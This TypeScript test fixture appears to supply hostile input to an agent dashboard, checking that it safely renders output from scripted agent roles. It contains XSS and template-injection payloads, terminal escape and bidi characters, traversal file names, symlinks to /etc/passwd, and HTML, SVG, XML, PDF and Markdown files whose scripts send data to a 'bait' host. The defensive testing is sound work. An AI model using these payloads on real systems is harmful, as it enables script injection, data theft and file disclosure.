import { tinyServer } from "./tiny-project.ts";

/** What an agent writes to break out of a page, a terminal or a prompt; `bait` is a server that counts who calls. */
export function hostileText(bait: string): string {
	return [
		`<img src=x onerror="window.hit=1"><script>window.hit=1;alert(1)</script><svg onload=alert(1)>`,
		`<img src="${bait}/image.png"><link rel=stylesheet href="${bait}/style.css"><iframe src="${bait}/frame"></iframe>`,
		`![remote](${bait}/markdown.png) [click](javascript:window.hit=1) <a href="javascript:alert(1)">go</a>`,
		`\u001b[2J\u001b[31mred\u001b]0;title\u0007\u001b]8;;${bait}/osc\u001b\\link\u001b]8;;\u001b\\`,
		`\u001bP1;2qdcs\u001b\\\u009b5n\u009d0;c1\u009c\u0007\u0008`,
		`user\u202egpj.exe \u2066isolate\u2069 zero\u200bwidth\ufeff tag\u{e0068}\u{e0069} {{constructor.constructor("alert(1)")()}}`,
	].join(" ");
}

/** What may never stand in a page or come to a terminal: control, bidi, zero-width and tag characters. */
export const hiddenCharacters =
	// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
	/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]|\udb40[\udc00-\udfff]/;

export const oddNames = [
	`<img src=x onerror=window.hit=1>.txt`,
	"line\nbreak.txt",
	`"quote' & <b>.js`,
	"\u202egpj.exe",
	"\u001b[31mred.txt",
	"..\\..\\..\\evil.txt",
	"%2e%2e%2fevil.txt",
	"-rf",
	"javascript:alert(1).md",
	"__proto__",
	"zero\u200bwidth.txt",
];

/** Documents whose scripts would like to run in the dashboard, with the MIME type by which they are shown. */
export function hostileDocuments(bait: string): Record<string, string> {
	const script = `fetch("${bait}/stolen?"+localStorage.length);try{parent.hit=1;top.hit=1;opener.hit=1}catch{};try{top.location="${bait}/top"}catch{};navigator.serviceWorker?.register("sw.js").catch(()=>{});window.open("${bait}/popup")`;
	return {
		"evil.html": `<!doctype html><title>evil</title><script>${script}</script><img src="${bait}/html.png"><form action="${bait}/form"><button>x</button></form><script>document.forms[0].submit()</script><meta http-equiv=refresh content="0;url=${bait}/refresh"><body>evil page`,
		"evil.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload='${script.replaceAll("'", "")}'><script>fetch("${bait}/svg")</script><image href="${bait}/svg.png"/><text y="20">evil</text></svg>`,
		"evil.xml": `<?xml version="1.0"?><?xml-stylesheet href="${bait}/xsl" type="text/xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "${bait}/dtd">]><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>fetch("${bait}/xml")</h:script>&e;</x>`,
		"evil.js": `fetch("${bait}/js")`,
		"evil.pdf": `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL("${bait}/pdf"))>>>>endobj\ntrailer<</Root 1 0 R>>`,
		"evil.md": `# evil\n<script>fetch("${bait}/md")</script>\n![x](${bait}/md.png)`,
		"evil.png": `<html><script>fetch("${bait}/png")</script></html>`,
		"evil.css": `@import url("${bait}/css");`,
		"sw.js": `self.addEventListener("fetch",()=>{})`,
	};
}

/** A run in which every role says and leaves hostile things wherever words or names are taken. */
export function hostileRun(bait: string) {
	const text = hostileText(bait);
	const short = `<img src=x onerror="window.hit=1"><script>alert(1)</script>\u001b[31m \u202eesrever \u200b\u{e0068}\u009b5n [x](javascript:1) ![y](${bait}/y.png)`;
	const bytes = (name: string) => JSON.stringify(name).replaceAll("'", "'\\''");
	const page = `<!doctype html><title>${short}</title><h1>x</h1><script>console.error(${JSON.stringify(text).replaceAll("</", "<\\/")})</script>`;
	return {
		name: "hostile",
		spec: "# A thing\n\nIt shows a page.\n",
		project: {
			name: "hostile",
			phases: [{ id: "first", title: short, criteria: [{ id: "page.title", statement: text }] }],
			serve: { run: "node server.mjs" },
			checks: [
				{
					id: "says",
					title: short,
					run: `node -e 'console.log(${bytes(text)})' && cat said.txt`,
					criteria: ["page.title"],
					outputs: ["out/**"],
				},
			],
			probes: [
				{
					id: "home",
					title: short,
					viewport: { width: 1000, height: 600 },
					steps: [{ do: "evaluate", name: "value", expression: "document.title" }],
					criteria: ["page.title"],
				},
			],
		},
		options: { loops: 1 },
		scenario: {
			id: "hostile",
			entries: [
				{
					role: "planner",
					steps: [
						{ message: text },
						{
							result: {
								json: {
									objective: text,
									phase: "first",
									tasks: [{ title: short, outcome: text }],
									acceptance: ["page.title"],
									notes: text,
									stop: [text],
								},
							},
						},
					],
				},
				{
					role: "developer",
					steps: [
						{ message: text },
						{ reasoning: text },
						{ raw: { line: text } },
						{ emit: { event: { type: "error", message: text, fatal: false, kind: "agent" } } },
						{ write: { path: "server.mjs", content: tinyServer } },
						{ write: { path: "index.html", content: page } },
						{ write: { path: "said.txt", content: text } },
						...oddNames.map((path) => ({ write: { path, content: text } })),
						...Object.entries(hostileDocuments(bait)).map(([path, content]) => ({
							write: { path, content },
						})),
						{
							run: {
								command:
									"ln -s /etc/passwd link-file; ln -s ../../../.. link-up; ln -s / link-root; ln -s link-root/tmp link-far",
							},
						},
						{ run: { command: `cat said.txt; printf '\\033[2J'` } },
						{ result: { json: { status: "pass", summary: text } } },
					],
				},
				{
					role: "tester",
					steps: [
						{ message: text },
						{ run: { command: "cat said.txt" } },
						...["evil.html", "evil.svg", "evil.xml", "evil.pdf", "evil.js", "evil.md", "evil.png"].map(
							(path) => ({
								outbox: { path, fromWorkspace: path },
							}),
						),
						{ outbox: { path: "<img src=x onerror=alert(1)>.txt", content: text } },
						{
							result: {
								json: {
									status: "fail",
									summary: text,
									claims: [
										{
											id: "page.title",
											statement: text.slice(0, 1990),
											scope: short,
											method: text,
											observed: text,
											impact: text,
											limitation: text,
											assessment: "verified",
											records: ["check:says", "outbox:evil.html"],
										},
									],
									findings: [
										{
											id: "evil",
											title: short,
											severity: "major",
											detail: text,
											records: ["outbox:evil.svg"],
										},
									],
								},
							},
						},
					],
				},
			],
		},
	};
}
